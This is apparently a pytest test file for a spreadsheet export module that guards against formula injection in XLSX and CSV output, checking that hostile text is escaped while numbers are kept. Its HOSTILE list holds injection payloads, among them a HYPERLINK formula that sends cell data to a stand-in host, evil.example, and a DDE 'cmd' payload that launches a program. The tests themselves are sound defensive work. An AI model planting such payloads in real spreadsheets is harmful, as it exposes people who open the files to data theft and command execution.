"""Formula-leading text is written as text in XLSX and CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from theodoi.core.spreadsheet import append_row, csv_safe, csv_safe_row, is_dangerous, set_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_is_dangerous(text):
    assert is_dangerous(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Sản lượng lúa", "", "-5", "+1.234,5", "-12%", 12, -3.5, Decimal("-1"), None])
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert not is_dangerous(value)
    assert csv_safe(value) == value


def _reopen(book: Workbook) -> Any:
    buf = io.BytesIO()
    book.save(buf)
    return load_workbook(io.BytesIO(buf.getvalue())).active


def test_xlsx_cells_keep_hostile_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    sheet: Any = book.active
    append_row(sheet, ["Tiêu đề"])
    append_row(sheet, [HOSTILE[0], -2.5, "-7"])
    set_cell(sheet, 3, 1, HOSTILE[3])
    set_cell(sheet, 3, 2, 42)
    got = _reopen(book)
    assert got["A1"].value == "Tiêu đề"
    for ref, text in (("A2", HOSTILE[0]), ("A3", HOSTILE[3])):
        assert got[ref].value == text and got[ref].data_type == "s" and got[ref].quotePrefix
    assert got["B2"].value == -2.5 and got["B2"].data_type == "n"
    assert got["B3"].value == 42
    assert got["C2"].value == "-7" and not got["C2"].quotePrefix


def test_append_row_lands_where_append_would():
    book = Workbook()
    sheet: Any = book.active
    append_row(sheet, ["a"])
    sheet.append([])
    append_row(sheet, ["=b"])
    assert sheet.max_row == 3 and sheet["A3"].value == "=b" and sheet["A3"].data_type == "s"


def test_csv_rows_are_neutralised():
    out = io.StringIO()
    csv.writer(out).writerow(csv_safe_row(["Ghi chú", HOSTILE[0], 5]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["Ghi chú", "'" + HOSTILE[0], "5"]
